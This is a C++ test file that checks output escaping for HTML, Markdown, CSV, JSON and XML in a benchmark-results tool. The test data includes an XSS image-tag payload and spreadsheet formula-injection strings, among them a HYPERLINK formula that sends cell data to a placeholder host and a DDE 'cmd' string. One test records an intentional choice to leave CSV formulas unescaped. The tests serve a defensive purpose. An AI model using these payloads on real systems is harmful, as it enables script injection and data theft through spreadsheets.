// SPDX-License-Identifier: MIT
// Output escaping per format (issue 7): text from a hostile input can end a cell, a tag or a
// string early in no output format.
#include <nlohmann/json.hpp>
#include <string>
#include <string_view>
#include <vector>

#include "catch.hpp"
#include "compare_support.hpp"
#include "csv_reader.hpp"
#include "iosr/compare.hpp"
#include "iosr/read.hpp"
#include "iosr/render.hpp"

using namespace test_support;
using iosr::direction;

namespace {

// A file whose only chart compares a baseline with a configuration named `label`.
iosr::result_file file_with_label(const std::string& label) {
  return file("in.txt", {chart("FS-Mark", "Test: 1000 Files", "Files/s", direction::higher,
                               {{"None", "20.13"}, {label, "18.20"}})});
}

std::string rendered(const iosr::result_file& f, std::string_view format) {
  std::string out;
  iosr::render({&f, 1}, format, {}, out);
  return out;
}

std::string compared(const iosr::result_file& f, std::string_view format) {
  std::string out;
  iosr::render_comparison(iosr::compare(std::vector{f}), format, {}, out);
  return out;
}

// Cells of a Markdown table row: split at `|` not preceded by a backslash.
std::size_t cell_count(std::string_view line) {
  std::size_t bars = 0;
  for (std::size_t i = 0; i < line.size(); ++i) {
    if (line[i] == '|' && (i == 0 || line[i - 1] != '\\')) ++bars;
  }
  return bars;
}

}  // namespace

TEST_CASE("Escaping: HTML escapes <, &, and both quotes in text and attributes", "[escaping]") {
  const std::string label = "<img src=x onerror=\"a('&')\">";
  const auto html = compared(file_with_label(label), "html");
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("onerror=\"") == std::string::npos);
  CHECK(html.find("&lt;img src=x onerror=&quot;a(&#39;&amp;&#39;)&quot;&gt;") != std::string::npos);
}

TEST_CASE("Escaping: a Markdown cell keeps its table whole despite | and newlines", "[escaping]") {
  const auto md = compared(file_with_label("a|b\nc\r\nd"), "md");
  CHECK(md.find("a\\|b c  d") != std::string::npos);
  // Within each table (a run of lines starting with `|`), every row has the header's cells.
  std::size_t tables = 0, cells = 0;
  for (std::size_t start = 0; start < md.size();) {
    auto end = md.find('\n', start);
    auto line = std::string_view(md).substr(start, end - start);
    if (!line.starts_with("|")) {
      cells = 0;
    } else if (cells == 0) {
      cells = cell_count(line);
      ++tables;
    } else {
      INFO(line);
      CHECK(cell_count(line) == cells);
    }
    if (end == std::string::npos) break;
    start = end + 1;
  }
  CHECK(tables == 2);
  CHECK(md.find('\r') == std::string::npos);
}

TEST_CASE("Escaping: CSV quotes quotes and newlines and reads back byte for byte", "[escaping]") {
  const std::string label = "say \"hi\", then\nleave";
  const auto rows = read_csv(rendered(file_with_label(label), "csv"));
  REQUIRE(rows.size() == 3);
  CHECK(rows[2][6] == label);
  const auto compare_rows = read_csv(compared(file_with_label(label), "csv"));
  REQUIRE(compare_rows.size() == 3);
  CHECK(compare_rows[2][6] == label);
}

TEST_CASE("Escaping: CSV leaves formula-like fields as written (docs/csv.md)", "[escaping]") {
  // The decision: no `'` prefix, because values are promised byte for byte and real fields
  // (fio's arguments, labels such as -O3) begin with `-`. Spreadsheet users import as text.
  for (std::string label :
       {"=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-O3", "@SUM(A1)"}) {
    auto f = file_with_label(label);
    f.results[0].arguments = "-s 4k --rw=randread";
    const auto rows = read_csv(rendered(f, "csv"));
    REQUIRE(rows.size() == 3);
    CHECK(rows[2][6] == label);
    CHECK(rows[2][18] == "-s 4k --rw=randread");
    CHECK(read_csv(compared(f, "csv"))[2][6] == label);
  }
}

TEST_CASE("Escaping: JSON escapes control characters and they read back", "[escaping]") {
  const std::string label = std::string("tab\there, bell\x07, escape\x1b[31m, nul") + '\0' + "end";
  const auto json = rendered(file_with_label(label), "json");
  CHECK(json.find("\\u0007") != std::string::npos);
  CHECK(json.find('\x1b') == std::string::npos);
  const auto doc = nlohmann::json::parse(json);
  CHECK(doc.dump().find("\\u0000") != std::string::npos);
  // And iosr reads its own JSON back to the same label.
  auto back = iosr::read_results(json, "back.json");
  CHECK(back.results.at(0).entries.at(1).label == label);
}

TEST_CASE("Escaping: JSON turns invalid UTF-8 from an input into U+FFFD, still valid JSON",
          "[escaping]") {
  const std::string label = "bad \xff\xfe byte, cut \xe2\x82";
  for (auto json :
       {rendered(file_with_label(label), "json"), compared(file_with_label(label), "json")}) {
    const auto doc = nlohmann::json::parse(json);  // throws on invalid UTF-8
    CHECK(doc.dump().find("bad \xef\xbf\xbd") != std::string::npos);
  }
}

TEST_CASE("Escaping: the XML writer escapes markup and reads back to the same label",
          "[escaping]") {
  const std::string label = "<a href=\"x\">&amp;</a> ]]> 'q'";
  const auto xml = rendered(file_with_label(label), "xml");
  CHECK(xml.find("<a href") == std::string::npos);
  auto back = iosr::read_results(xml, "back.xml");
  CHECK(back.results.at(0).entries.at(1).label == label);
}

TEST_CASE("Escaping: XML output holds no character XML 1.0 forbids, not even as a reference",
          "[escaping]") {
  // Regression: `\x01` was written as `&#1;`, which only pugixml reads back, and a NUL cut the
  // label short. Both now become U+FFFD.
  const std::string label = std::string("a\x01") + '\0' + "b\x1f" + "\tc";
  const auto xml = rendered(file_with_label(label), "xml");
  CHECK(xml.find("&#") == std::string::npos);
  for (char c : xml) {
    auto byte = static_cast<unsigned char>(c);
    CHECK((byte >= 0x20 || c == '\t' || c == '\n' || c == '\r'));
  }
  auto back = iosr::read_results(xml, "back.xml");
  CHECK(back.results.at(0).entries.at(1).label ==
        "a\xEF\xBF\xBD\xEF\xBF\xBD"
        "b\xEF\xBF\xBD\tc");
}
